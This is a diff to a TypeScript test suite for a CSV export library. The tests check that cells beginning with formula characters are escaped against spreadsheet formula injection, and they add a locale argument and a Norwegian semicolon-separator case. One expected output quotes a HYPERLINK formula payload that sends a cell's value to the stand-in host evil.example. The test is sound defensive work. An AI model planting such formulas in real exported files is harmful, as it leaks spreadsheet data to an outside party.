@@ -17,13 +17,13 @@ describe('CSV cells (OWASP formula injection)', () => {
       ['Navn', 'Minutter'],
       [payload, -5],
       ['@SUM(A1:A2)', 3],
-    ]);
+    ], 'en');
     expect(out.startsWith('\uFEFF')).toBe(true);
     expect(out.slice(1).split('\n')).toEqual(['Navn,Minutter', `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",-5`, "'@SUM(A1:A2),3", '']);
   });
 
   it('does the same in a stream', async () => {
-    const csv = csvStream(['Navn', 'Fylke']);
+    const csv = csvStream(['Navn', 'Fylke'], 'en');
     const chunks: string[] = [];
     csv.on('data', (c: Buffer | string) => chunks.push(String(c)));
     const done = new Promise((ok) => csv.on('end', ok));
@@ -31,5 +31,9 @@ describe('CSV cells (OWASP formula injection)', () => {
     csv.end();
     await done;
     expect(chunks.join('')).toBe("\uFEFFNavn,Fylke\n'+47 999,'-Oslo\n");
+  });
+
+  it('separates with semicolons for Norwegian readers (Excel in Norwegian splits on them)', () => {
+    expect(csvFile([['Navn', 'Timer'], ['Kari', '1,5']], 'no')).toBe('\uFEFFNavn;Timer\nKari;1,5\n');
   });
 });
